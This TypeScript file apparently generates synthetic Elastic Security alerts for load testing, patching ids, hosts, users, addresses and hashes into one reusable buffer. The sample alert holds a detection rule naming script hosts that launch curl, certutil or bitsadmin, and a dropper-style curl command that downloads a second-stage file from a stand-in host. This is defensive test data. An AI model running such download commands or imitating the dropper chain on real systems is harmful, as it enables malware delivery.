/** Alerts as Elastic's detection engine stores them, about 4 kB each, every one with its own id. */
import { randomBytes } from "node:crypto";

/** A text in the document that stands for something that differs from alert to alert. */
interface Slot {
  readonly text: string;
  /** What the nth alert has there, exactly as long. */
  fill(n: number): string;
}

const digits = (value: number, length: number) => String(value).padStart(length, "0");
const hex = (value: number, length: number) => value.toString(16).padStart(length, "0");
/** A number of three digits: octets that keep their length. */
const octet = (n: number) => String(100 + (n % 100));

const RUN = randomBytes(4).toString("hex");
const ID = "aaaaaaaa-1111-4111-8111-aaaaaaaaaaaa";
/** The id of the nth alert of this process. */
export const uuidOf = (n: number) => `${RUN}-1111-4111-8111-${hex(n, 12)}`;
const HOST = "ws-aaaa";
const USER = "user.aaaa";
const ADDRESS = "10.aaa.aaa.aaa";
const HASH_START = "d1c0ffee".repeat(7);

const SLOTS: readonly Slot[] = [
  { text: ID, fill: uuidOf },
  { text: HOST, fill: (n) => `ws-${digits(n % 1000, 4)}` },
  { text: USER, fill: (n) => `user.${digits((n * 7) % 500, 4)}` },
  { text: ADDRESS, fill: (n) => `10.${octet(n)}.${octet(n * 3)}.${octet(Math.floor(n / 100))}` },
  { text: `${HASH_START}aaaaaaaa`, fill: (n) => HASH_START + hex(n % 5000, 8) },
];

const RULE = {
  "kibana.alert.rule.name": "Script Host Starts a Network Tool",
  "kibana.alert.rule.uuid": "4c9c7d53-8c9b-4d0e-9a4d-5a0f0f1f6b01",
  "kibana.alert.rule.rule_id": "6f1e0a52-2f61-4d7c-8c13-9be0f4c1a7d2",
  "kibana.alert.rule.category": "Custom Query Rule",
  "kibana.alert.rule.rule_type_id": "siem.queryRule",
  "kibana.alert.rule.type": "query",
  "kibana.alert.rule.producer": "siem",
  "kibana.alert.rule.consumer": "siem",
  "kibana.alert.rule.version": 4,
  "kibana.alert.rule.severity": "high",
  "kibana.alert.rule.risk_score": 73,
  "kibana.alert.rule.interval": "5m",
  "kibana.alert.rule.from": "now-6m",
  "kibana.alert.rule.description":
    "A script host was seen to start a program that opens connections, which is how many droppers fetch their second stage. Administrators' scripts do so too, from few hosts.",
  "kibana.alert.rule.note":
    "## Triage\n\n1. Who started the script, and from where?\n2. Is the address known to the team?\n3. Isolate the host when the hash is unknown, then take the script from disk.",
  "kibana.alert.rule.false_positives": ["Deployment tools that call curl from a script."],
  "kibana.alert.rule.tags": ["OS: Windows", "Use Case: Threat Detection", "Tactic: Execution"],
  "kibana.alert.rule.references": [
    "https://docs.example.org/detections/script-host-network",
    "https://wiki.example.org/runbooks/script-host",
  ],
  "kibana.alert.rule.threat": [
    {
      framework: "MITRE ATT&CK",
      tactic: {
        id: "TA0002",
        name: "Execution",
        reference: "https://attack.mitre.org/tactics/TA0002/",
      },
      technique: [
        {
          id: "T1059",
          name: "Command and Scripting Interpreter",
          reference: "https://attack.mitre.org/techniques/T1059/",
          subtechnique: [{ id: "T1059.005", name: "Visual Basic" }],
        },
      ],
    },
  ],
  "kibana.alert.rule.parameters": {
    index: ["winlogbeat-*", "logs-windows.*", "logs-endpoint.events.*"],
    query:
      'event.category : "process" and process.parent.name : ("wscript.exe" or "cscript.exe") and process.name : ("curl.exe" or "certutil.exe" or "bitsadmin.exe")',
    language: "kuery",
    max_signals: 100,
  },
};

const ALERT = {
  "@timestamp": "2026-03-02T09:41:27.318Z",
  "kibana.alert.uuid": ID,
  "kibana.alert.status": "active",
  "kibana.alert.workflow_status": "open",
  "kibana.alert.start": "2026-03-02T09:41:27.318Z",
  "kibana.alert.original_time": "2026-03-02T09:38:51.002Z",
  "kibana.alert.severity": "high",
  "kibana.alert.risk_score": 73,
  "kibana.alert.depth": 1,
  "kibana.alert.reason": `process event with process curl.exe, parent process wscript.exe, by ${USER} on ${HOST} created high alert Script Host Starts a Network Tool.`,
  "kibana.alert.url": `https://kibana.example.org/app/security/alerts/redirect/${ID}?index=.alerts-security.alerts-default`,
  "kibana.alert.ancestors": [{ id: ID, type: "event", index: "logs-windows.sysmon", depth: 0 }],
  "kibana.space_ids": ["default"],
  "kibana.version": "8.19.2",
  ...RULE,
  event: { kind: "signal", category: ["process"], type: ["start"], code: "1", outcome: "success" },
  host: {
    name: HOST,
    hostname: HOST,
    ip: [ADDRESS],
    os: { family: "windows", name: "Windows 11 Enterprise", version: "10.0" },
  },
  user: { name: USER, domain: "EXAMPLE", id: "S-1-5-21-301-302-303-1104" },
  source: { ip: ADDRESS, port: 49721 },
  destination: { ip: "198.51.100.23", port: 443, domain: "cdn.example.net" },
  process: {
    pid: 5120,
    entity_id: ID,
    name: "curl.exe",
    executable: "C:\\Windows\\System32\\curl.exe",
    command_line:
      "curl.exe -s -o C:\\Users\\Public\\stage.dat https://cdn.example.net/assets/stage.dat",
    hash: { sha256: `${HASH_START}aaaaaaaa` },
    working_directory: "C:\\Users\\Public\\",
    code_signature: { exists: true, trusted: true, subject_name: "Microsoft Windows" },
    parent: {
      pid: 4811,
      name: "wscript.exe",
      executable: "C:\\Windows\\System32\\wscript.exe",
      command_line: "wscript.exe C:\\Users\\Public\\invoice.vbs",
    },
  },
  related: { hosts: [HOST], user: [USER], ip: [ADDRESS, "198.51.100.23"] },
  agent: { type: "winlogbeat", version: "8.19.2", name: HOST },
  ecs: { version: "8.17.0" },
};

/** An alert in a buffer that can be sent again and again as a different one. */
export interface AlertBuffer {
  readonly bytes: Buffer;
  /** Makes it the nth alert of this process. */
  become(n: number): void;
}

/** An alert as JSON, behind whatever `head` puts before a body of that length. */
export function createAlert(head: (length: number) => string = () => ""): AlertBuffer {
  const body = Buffer.from(JSON.stringify(ALERT));
  const bytes = Buffer.concat([Buffer.from(head(body.length)), body]);
  const places = SLOTS.map((slot) => ({ ...slot, offsets: offsetsOf(bytes, slot.text) }));
  return {
    bytes,
    become(n) {
      for (const { fill, offsets } of places) {
        const value = fill(n);
        for (const offset of offsets) bytes.write(value, offset, "latin1");
      }
    },
  };
}

function offsetsOf(bytes: Buffer, text: string): number[] {
  const offsets: number[] = [];
  for (let at = bytes.indexOf(text); at >= 0; at = bytes.indexOf(text, at + 1)) offsets.push(at);
  return offsets;
}
